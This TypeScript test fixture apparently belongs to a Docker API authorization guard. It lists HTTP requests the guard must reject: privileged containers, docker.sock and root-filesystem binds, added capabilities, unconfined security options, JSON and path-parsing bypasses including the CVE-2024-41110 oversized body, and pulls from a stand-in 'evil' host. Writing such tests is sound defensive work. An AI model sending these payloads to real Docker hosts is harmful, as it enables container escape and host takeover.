/** One way to ask the engine for something that the guard must not let through, as raw as it goes over the wire. */
export type Attempt = {
  readonly name: string;
  readonly method: string;
  readonly path: string;
  readonly headers?: { readonly [name: string]: string };
  readonly body?: string;
  readonly chunked?: true;
};

const JSON_TYPE = { 'Content-Type': 'application/json' };
const V = '/v1.41';
const post = (name: string, path: string, body: unknown, more: Partial<Attempt> = {}): Attempt => ({
  name,
  method: 'POST',
  path,
  headers: JSON_TYPE,
  body: typeof body === 'string' ? body : JSON.stringify(body),
  ...more,
});
const image = { Image: 'debian:12', Cmd: ['true'], User: '1000:1000' };
/** The same forbidden thing at the front door. */
const hostConfig = (name: string, host: object): Attempt =>
  post(`create with ${name}`, `${V}/containers/create`, { ...image, HostConfig: host });
const raw = (name: string, body: string): Attempt => post(`create ${name}`, `${V}/containers/create`, body);

const SOCKETS = [
  '/var/run/docker.sock',
  '/run/docker.sock',
  '/var/run',
  '/run',
  '/',
  '/var',
  '/run/containerd/containerd.sock',
  '/run/containerd',
  '/var/run/podman',
  '/run/user/1000',
];
const WRITABLE = [
  '/etc',
  '/proc',
  '/sys',
  '/dev',
  '/boot',
  '/root',
  '/usr',
  '/lib/modules',
  '/var/lib/docker',
  '/etc/shadow',
  '/etc/cron.d',
];
const CRAFTED = ['/var/run/../run/docker.sock', '//etc', '/./etc', '/etc/.', '/tmp/../etc', '/etc//', '/tmp/..'];
const CAPABILITIES = [
  'ALL',
  'all',
  'SYS_ADMIN',
  'CAP_SYS_ADMIN',
  'sys_admin',
  'Cap_Sys_Admin',
  'SYS_MODULE',
  'SYS_PTRACE',
  'SYS_RAWIO',
  'DAC_READ_SEARCH',
  'BPF',
  'CAP_ALL',
];
const OPTIONS = [
  'seccomp=unconfined',
  'seccomp:unconfined',
  'apparmor=unconfined',
  'apparmor:unconfined',
  'label=disable',
  'label:disable',
  'systempaths=unconfined',
  'no-new-privileges=false',
  'seccomp={"defaultAction":"SCMP_ACT_ALLOW"}',
  'label=type:spc_t',
  'writable-cgroups=true',
];
const FOLDED = [
  'privileged',
  'PRIVILEGED',
  'pRIVILEGED',
  'Privilege\u0064',
  'privi\u017feged',
  'binds',
  'capadd',
  'CAPADD',
  'pidmode',
  'networkMode',
  'securityopt',
  'devices',
  'mounts',
];
const VALUES: { readonly [field: string]: unknown } = {
  binds: ['/:/host'],
  capadd: ['ALL'],
  pidmode: 'host',
  networkmode: 'host',
  securityopt: ['seccomp=unconfined'],
  devices: [{ PathOnHost: '/dev/sda', PathInContainer: '/dev/sda', CgroupPermissions: 'rwm' }],
  mounts: [{ Type: 'bind', Source: '/', Target: '/host' }],
};
const bad = { ...image, HostConfig: { Privileged: true } };
const CREATE_PATHS = [
  '//containers/create',
  '/./containers/create',
  '/x/../containers/create',
  '/containers//create',
  '/containers/%63reate',
  '/%63ontainers/create',
  '/containers%2fcreate',
  '/v1.41//containers/create',
  '/v1.41/../containers/create',
  '/v1.41/%2e%2e/containers/create',
  '/v1.12/containers/create',
  '/v1.23/containers/create',
  '/v1.0/containers/create',
  '/v9.99/containers/create',
  '/v1.99/containers/create',
  '/v1.57/containers/create',
  '/v1.041/containers/create',
  '/v1.41./containers/create',
  '/v/containers/create',
  '/v1/containers/create',
  '/V1.41/containers/create',
  '/containers/create/',
  '/containers/create;x',
  '/containers/create%00',
  '/containers/create%20',
  '/containers/CREATE',
  '/v1.41/v1.41/containers/create',
];

/** Ways known from other gates, and from the API's own list. */
export const BYPASS_ATTEMPTS: readonly Attempt[] = [
  hostConfig('privileged', { Privileged: true }),
  ...SOCKETS.map((path) => hostConfig(`a bind of ${path}`, { Binds: [`${path}:/mnt/x`] })),
  ...SOCKETS.map((path) =>
    hostConfig(`a mount of ${path}`, { Mounts: [{ Type: 'bind', Source: path, Target: '/mnt/x' }] }),
  ),
  hostConfig('the socket read-only', { Binds: ['/var/run/docker.sock:/var/run/docker.sock:ro'] }),
  ...WRITABLE.map((path) => hostConfig(`a writable ${path}`, { Binds: [`${path}:/mnt/x:rw`] })),
  ...CRAFTED.map((path) => hostConfig(`the crafted path ${path}`, { Binds: [`${path}:/mnt/x`] })),
  ...CAPABILITIES.map((name) => hostConfig(`the capability ${name}`, { CapAdd: [name] })),
  ...OPTIONS.map((option) => hostConfig(`the option ${option}`, { SecurityOpt: [option] })),
  ...['PidMode', 'IpcMode', 'UTSMode', 'UsernsMode', 'CgroupnsMode', 'NetworkMode'].map((field) =>
    hostConfig(`${field} host`, { [field]: 'host' }),
  ),
  hostConfig("another container's processes", { PidMode: 'container:x' }),
  hostConfig("another container's ipc", { IpcMode: 'container:x' }),
  hostConfig("another container's mounts", { VolumesFrom: ['x'] }),
  ...['/dev/sda', '/dev/mem', '/dev/kmsg', '/dev/fuse'].slice(0, 2).map((path) =>
    hostConfig(`the device ${path}`, {
      Devices: [{ PathOnHost: path, PathInContainer: path, CgroupPermissions: 'rwm' }],
    }),
  ),
  hostConfig('the file of a device that a container made in a shared folder', {
    Devices: [{ PathOnHost: '/srv/shared/sda', PathInContainer: '/dev/x', CgroupPermissions: 'rwm' }],
  }),
  hostConfig('all devices by rule', { DeviceCgroupRules: ['a *:* rwm'] }),
  hostConfig('block devices by rule', { DeviceCgroupRules: ['b 8:0 rwm'] }),
  hostConfig('uncovered kernel paths', { MaskedPaths: [], ReadonlyPaths: [] }),
  hostConfig('writable kernel paths', { ReadonlyPaths: [] }),
  hostConfig('a runtime of its own', { Runtime: 'evil' }),
  hostConfig('a parent cgroup', { CgroupParent: '/system.slice' }),
  hostConfig('a sysctl of the host', { Sysctls: { 'kernel.core_pattern': '|/x' } }),
  hostConfig('a sysctl of memory', { Sysctls: { 'vm.overcommit_memory': '1' } }),
  hostConfig('a volume driver', { VolumeDriver: 'evil' }),
  hostConfig('a volume that is a bind', {
    Mounts: [
      {
        Type: 'volume',
        Source: 'v',
        Target: '/h',
        VolumeOptions: { DriverConfig: { Name: 'local', Options: { type: 'none', o: 'bind', device: '/' } } },
      },
    ],
  }),
  hostConfig('a mount of an unknown type', { Mounts: [{ Type: 'cluster', Source: 'v', Target: '/h' }] }),
  hostConfig('a mount of odd casing', { Mounts: [{ type: 'bind', source: '/', target: '/h' }] }),
  hostConfig('a field of tomorrow', { HostRoot: true }),
  hostConfig('old capability list', { Capabilities: ['CAP_SYS_ADMIN'] }),
  ...[
    'org.systemd.property.Slice',
    'org.criu.config',
    'run.oci.hooks.stderr',
    'run.oci.handler',
    'dev.gvisor.spec.rootfs.source',
    'io.katacontainers.config.hypervisor.path',
    'io.containerd.runc.v2.group',
    'io.kubernetes.cri.sandbox-id',
    'cdi.k8s.io/all',
    'nvidia.cdi.k8s.io/gpu',
  ].map((name) => hostConfig(`the annotation ${name}`, { Annotations: { [name]: 'x' } })),
  ...FOLDED.map((field) =>
    raw(`with ${field}`, JSON.stringify({ ...image, HostConfig: { [field]: VALUES[field.toLowerCase()] ?? true } })),
  ),
  ...['hostconfig', 'HOSTCONFIG', 'hostConfig', 'Hostconfig', 'ho\u017ftConfig'].map((field) =>
    raw(`with ${field}`, JSON.stringify({ ...image, [field]: { Privileged: true } })),
  ),
  raw('with HostConfig twice', '{"Image":"debian:12","HostConfig":{},"HostConfig":{"Privileged":true}}'),
  raw(
    'with HostConfig twice, the bad one first',
    '{"Image":"debian:12","HostConfig":{"Privileged":true},"HostConfig":{}}',
  ),
  raw(
    'with HostConfig twice, its colon far away',
    `{"Image":"debian:12","User":"1000:1000","HostConfig":{"Privileged":true},"HostConfig"${' '.repeat(100)}:{}}`,
  ),
  raw('with HostConfig twice in two casings', '{"Image":"debian:12","HostConfig":{},"hostconfig":{"Privileged":true}}'),
  raw('with Privileged twice', '{"Image":"debian:12","HostConfig":{"Privileged":true,"Privileged":false}}'),
  raw('with an escaped name', '{"Image":"debian:12","HostConfig":{"Privileged":false,"\\u0050rivileged":true}}'),
  raw('with a second value behind', `${JSON.stringify(image)}${JSON.stringify(bad)}`),
  raw('with rubbish behind', `${JSON.stringify(bad)} x`),
  raw('with a byte order mark', `\ufeff${JSON.stringify(bad)}`),
  raw('with a list', `[${JSON.stringify(bad)}]`),
  raw('with no object', '"x"'),
  raw('with a text for a flag', '{"Image":"debian:12","HostConfig":{"Privileged":"true"}}'),
  raw('with a number for a flag', '{"Image":"debian:12","HostConfig":{"Privileged":1}}'),
  raw('with too deep a body', `{"Labels":${'{"a":'.repeat(100)}1${'}'.repeat(100)}}`),
  raw('with an empty body', ''),
  raw('with an oversized body (CVE-2024-41110)', JSON.stringify({ ...bad, Labels: { x: 'x'.repeat(1_200_000) } })),
  post('create in chunks', `${V}/containers/create`, bad, { chunked: true }),
  post(
    'create with no length and an empty body shown',
    `${V}/containers/create`,
    { ...bad, Labels: { x: 'x'.repeat(1_200_000) } },
    { chunked: true },
  ),
  ...[
    'text/plain',
    'application/x-www-form-urlencoded',
    'multipart/form-data; boundary=x',
    'application/octet-stream',
    'application/json2',
    'text/json',
    '',
  ].map((type) =>
    post(`create as ${type || 'nothing'}`, `${V}/containers/create`, bad, { headers: { 'Content-Type': type } }),
  ),
  post('create that ends like the path whose body is not shown', `${V}/containers/create?name=/auth`, bad),
  post('create with a parameter of the same ending', `${V}/containers/create?x=/auth`, bad),
  post('create with two names', `${V}/containers/create?name=a&name=b`, bad),
  post('create with a semicolon', `${V}/containers/create?name=a;platform=b`, bad),
  ...CREATE_PATHS.map((path) => post(`create at ${path}`, path, bad)),
  ...['PUT', 'PATCH', 'OPTIONS', 'TRACE', 'post', 'PROPFIND'].map((method) =>
    post(`create by ${method}`, `${V}/containers/create`, bad, { method }),
  ),
  post('a start with settings of old', '/v1.23/containers/x/start', { Privileged: true }),
  post('a start with settings', `${V}/containers/x/start`, { HostConfig: { Privileged: true } }),
  post('a start from a checkpoint', `${V}/containers/x/start?checkpoint=c`, ''),
  post('a start from a foreign checkpoint', `${V}/containers/x/start?checkpoint=c&checkpoint-dir=/tmp`, ''),
  post('a checkpoint', `${V}/containers/x/checkpoints`, { CheckpointID: 'c', CheckpointDir: '/etc' }),
  post('an exec with all privileges', `${V}/containers/x/exec`, { Cmd: ['sh'], Privileged: true }),
  post('an exec in odd casing', `${V}/containers/x/exec`, { Cmd: ['sh'], privileged: true }),
  ...['root', '0', '0:0', 'root:root', '00', '+0'].map((user) =>
    post(`an exec as ${user}`, `${V}/containers/x/exec`, { Cmd: ['sh'], User: user }),
  ),
  post('an update of devices', `${V}/containers/x/update`, {
    Devices: [{ PathOnHost: '/dev/sda', PathInContainer: '/x', CgroupPermissions: 'rwm' }],
  }),
  post('an update of device rules', `${V}/containers/x/update`, { DeviceCgroupRules: ['a *:* rwm'] }),
  post('an update of the parent cgroup', `${V}/containers/x/update`, { CgroupParent: '/' }),
  post('an update with privileges', `${V}/containers/x/update`, { Privileged: true }),
  post('a commit', `${V}/commit?container=x&repo=trusted&tag=1`, {}),
  post('a commit with changes', `${V}/commit?container=x&changes=USER%20root`, {}),
  {
    name: 'a copy into a container',
    method: 'PUT',
    path: `${V}/containers/x/archive?path=/`,
    headers: { 'Content-Type': 'application/x-tar' },
    body: 'x',
  },
  post('the old copy call', `${V}/containers/x/copy`, { Resource: '/etc/shadow' }),
  {
    name: 'a websocket into a container',
    method: 'GET',
    path: `${V}/containers/x/attach/ws`,
    headers: { Connection: 'Upgrade', Upgrade: 'websocket' },
  },
  post('a plugin', `${V}/plugins/pull?remote=evil/plugin`, '[]'),
  post('a plugin made here', `${V}/plugins/create?name=evil`, ''),
  post('a plugin switched on', `${V}/plugins/evil/enable`, ''),
  post('a plugin set', `${V}/plugins/evil/set`, '["DEBUG=1"]'),
  post('a swarm', `${V}/swarm/init`, { ListenAddr: '0.0.0.0:2377' }),
  post('joining a swarm', `${V}/swarm/join`, { RemoteAddrs: ['10.0.0.1'] }),
  post('a service', `${V}/services/create`, {
    TaskTemplate: { ContainerSpec: { Image: 'debian:12', Mounts: [{ Type: 'bind', Source: '/', Target: '/h' }] } },
  }),
  post('a secret', `${V}/secrets/create`, { Name: 'x' }),
  post('a config', `${V}/configs/create`, { Name: 'x' }),
  post('a build on the network of the host', `${V}/build?networkmode=host`, ''),
  post('a build with entitlements', `${V}/build?version=2&entitlements=security.insecure`, ''),
  post('a build in another cgroup', `${V}/build?cgroupparent=/`, ''),
  post('a build whose form overrules the query', `${V}/build`, 'networkmode=host&remote=http://evil/', {
    headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
  }),
  post('a build session', `${V}/session`, '', { headers: { Connection: 'Upgrade', Upgrade: 'h2c' } }),
  post('buildkit itself', `${V}/grpc`, '', { headers: { Connection: 'Upgrade', Upgrade: 'h2c' } }),
  post('an image from a tar', `${V}/images/load`, '', { headers: { 'Content-Type': 'application/x-tar' } }),
  post('an image from a URL', `${V}/images/create?fromSrc=http://evil/x.tar`, ''),
  post('an import with changes', `${V}/images/create?fromSrc=-&changes=USER%20root`, ''),
  ...[
    { type: 'none', o: 'bind', device: '/' },
    { type: '', o: 'bind', device: '/etc' },
    { o: 'rbind', device: '/' },
    { type: 'overlay', device: 'overlay', o: 'lowerdir=/,upperdir=/tmp/u,workdir=/tmp/w' },
    { type: 'ext4', device: '/dev/sda1' },
    { type: 'btrfs', device: '/dev/vda' },
    { type: 'proc', device: 'proc' },
    { type: 'cgroup', device: 'cgroup', o: 'rdma' },
    { type: 'tmpfs', device: '/', o: 'bind' },
    { type: 'nfs', device: '/etc', o: 'bind' },
    { Type: 'none', O: 'bind', Device: '/' },
    { type: 'tmpfs', device: 'tmpfs', o: 'remount' },
  ].map((options) =>
    post(`a volume with ${JSON.stringify(options)}`, `${V}/volumes/create`, {
      Name: 'v',
      Driver: 'local',
      DriverOpts: options,
    }),
  ),
  post('a volume of a foreign driver', `${V}/volumes/create`, { Name: 'v', Driver: 'evil' }),
  post(
    'a volume with options twice',
    `${V}/volumes/create`,
    '{"Name":"v","DriverOpts":{},"driveropts":{"type":"none","o":"bind","device":"/"}}',
  ),
  post("a network on the host's card", `${V}/networks/create`, {
    Name: 'n',
    Driver: 'macvlan',
    Options: { parent: 'eth0' },
  }),
  post('a network that is ipvlan', `${V}/networks/create`, { Name: 'n', Driver: 'ipvlan' }),
  post("a network on the host's bridge", `${V}/networks/create`, {
    Name: 'n',
    Driver: 'bridge',
    Options: { 'com.docker.network.bridge.name': 'br0' },
  }),
  post('a network whose containers are open to every port', `${V}/networks/create`, {
    Name: 'n',
    Driver: 'bridge',
    Options: { 'com.docker.network.bridge.gateway_mode_ipv4': 'nat-unprotected' },
  }),
  post('a network that is routed past the firewall', `${V}/networks/create`, {
    Name: 'n',
    Options: { 'com.docker.network.bridge.gateway_mode_ipv6': 'routed' },
  }),
  post('a network with an option of tomorrow', `${V}/networks/create`, {
    Name: 'n',
    Options: { 'com.docker.network.bridge.some_new_thing': '1' },
  }),
  post('an unknown call', `${V}/debug/pprof/cmdline`, ''),
  { name: 'a look into the engine', method: 'GET', path: '/debug/pprof/heap' },
  { name: 'metrics', method: 'GET', path: '/metrics' },
];
